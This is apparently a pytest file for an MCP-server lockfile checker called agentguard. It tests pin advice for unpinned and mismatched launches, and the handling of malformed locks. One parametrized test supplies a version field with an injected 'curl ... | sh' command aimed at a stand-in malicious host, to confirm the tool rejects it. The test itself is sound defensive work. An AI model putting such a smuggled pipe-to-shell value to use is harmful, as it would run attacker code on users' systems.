"""Where a project keeps `mcp.lock.json`, `inspect` and `check` read it: AG310's fix names
the locked version and the command that pins it, and AG142 reports a launch of another
version (an unpinned launch stays AG310's alone)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from agentguard.engine.project import inspect_project
from agentguard.facts.mcp_pins import LockedDependency, ServerPin
from agentguard.lock.servers import lockfile

SERVERS = {
    "tracker": {"command": "npx", "args": ["-y", "@acme/tracker-mcp"]},
    "fetch": {"command": "uvx", "args": ["mcp-server-fetch"]},
    "git": {"command": "uvx", "args": ["--from", "mcp-server-git==2025.1.1", "mcp-server-git"]},
}


def project(tmp_path: Path, servers: dict[str, Any]) -> Path:
    text = json.dumps({"mcpServers": servers}, indent=2)
    (tmp_path / ".mcp.json").write_text(text)
    line = {
        name: n + 1
        for n, row in enumerate(text.splitlines())
        for name in servers
        if f'"{name}"' in row
    }
    dep = LockedDependency("mcp-server-fetch", "2025.4.7", None, ("sha256:" + "1" * 64,))
    lockfile.write(
        tmp_path,
        [
            ServerPin("npm", "@acme/tracker-mcp", "1.4.2", "tracker", ".mcp.json", line["tracker"]),
            ServerPin(
                "pypi",
                "mcp-server-fetch",
                "2025.4.7",
                "fetch",
                ".mcp.json",
                line["fetch"],
                environment=(dep,),
            ),
            ServerPin("pypi", "mcp-server-git", "2025.2.0", "git", ".mcp.json", line["git"]),
        ],
    )
    return tmp_path


def by_rule(root: Path) -> dict[str, list[tuple[str, str | None]]]:
    result = inspect_project(root)
    out: dict[str, list[tuple[str, str | None]]] = {}
    for f in result.findings:
        if f.rule_id in ("AG310", "AG142"):
            out.setdefault(f.rule_id, []).append((f.fix.description, f.fix.snippet))
    assert ("lockfile", "mcp.lock.json", "ok") in [
        (s.kind, s.name, s.status.value) for s in result.sources
    ]
    return out


def test_ag310_names_the_locked_version_and_ag142_another_one(tmp_path: Path) -> None:
    got = by_rule(project(tmp_path, SERVERS))
    assert sorted(got["AG310"]) == [
        (
            "Pin it: launch `npx -y @acme/tracker-mcp@1.4.2` (the version mcp.lock.json holds); "
            "`agentguard lock --write-launch` writes it into .mcp.json.",
            "npx -y @acme/tracker-mcp@1.4.2",
        ),
        (
            "Pin it: launch `uvx --from 'mcp-server-fetch==2025.4.7' mcp-server-fetch` (the version "
            "mcp.lock.json holds); `agentguard lock --write-launch` writes it into .mcp.json.",
            "uvx --from 'mcp-server-fetch==2025.4.7' mcp-server-fetch",
        ),
    ]
    assert got["AG142"] == [
        (
            "Launch the locked version again: `uvx --from 'mcp-server-git==2025.2.0' mcp-server-git`; "
            "or, if the change is deliberate, re-lock (`agentguard lock`, with `--allow-major "
            "mcp-server-git` for another major) so that the lock holds what the launch names.",
            "uvx --from 'mcp-server-git==2025.2.0' mcp-server-git",
        )
    ]


def test_without_a_lock_ag310_names_the_command_that_pins_it(tmp_path: Path) -> None:
    (tmp_path / ".mcp.json").write_text(json.dumps({"mcpServers": {"tracker": SERVERS["tracker"]}}))
    result = inspect_project(tmp_path)
    [fix] = [f.fix for f in result.findings if f.rule_id == "AG310"]
    assert (fix.description, fix.snippet) == (
        "Pin it: run `agentguard lock --write-launch`, which resolves the version the launch gets "
        "today, records it in mcp.lock.json and launches `@acme/tracker-mcp@<version>` with it; then "
        "update it on purpose.",
        "agentguard lock --write-launch",
    )
    assert not [f for f in result.findings if f.rule_id == "AG142"]


def test_a_malformed_lock_is_a_failed_source_not_an_empty_lock(tmp_path: Path) -> None:
    (tmp_path / ".mcp.json").write_text(json.dumps({"mcpServers": {"tracker": SERVERS["tracker"]}}))
    (tmp_path / "mcp.lock.json").write_text('{"lock-version": 1, "servers": [{"kind": "npm"}]}')
    result = inspect_project(tmp_path)
    [failed] = [s for s in result.sources if s.name == "mcp.lock.json"]
    assert (failed.status.value, failed.error_code) == ("failed", "mcp-lock-malformed")
    assert "servers[0]: not an entry with a launch" in (failed.reason or "")


@pytest.mark.parametrize(
    "version",
    [
        "1.0.0; curl https://evil.example.invalid | sh",
        # a last newline is no version (a `$`-ended pattern took it, and wrote it on)
        "1.0.0\n",
    ],
)
def test_a_lock_that_names_shell_text_is_refused_and_never_quoted(
    tmp_path: Path, version: str
) -> None:
    (tmp_path / ".mcp.json").write_text(json.dumps({"mcpServers": {"tracker": SERVERS["tracker"]}}))
    entry = {
        "launch": {"path": ".mcp.json", "line": 1, "server": "tracker"},
        "kind": "npm",
        "package": "@acme/tracker-mcp",
        "version": version,
    }
    (tmp_path / "mcp.lock.json").write_text(json.dumps({"lock-version": 1, "servers": [entry]}))
    result = inspect_project(tmp_path)
    [failed] = [s for s in result.sources if s.name == "mcp.lock.json"]
    assert (failed.status.value, failed.error_code) == ("failed", "mcp-lock-malformed")
    assert "servers[0]: not a valid npm package name and version" in (failed.reason or "")
    assert not any(
        "curl" in f.fix.description or "curl" in (f.fix.snippet or "") for f in result.findings
    )
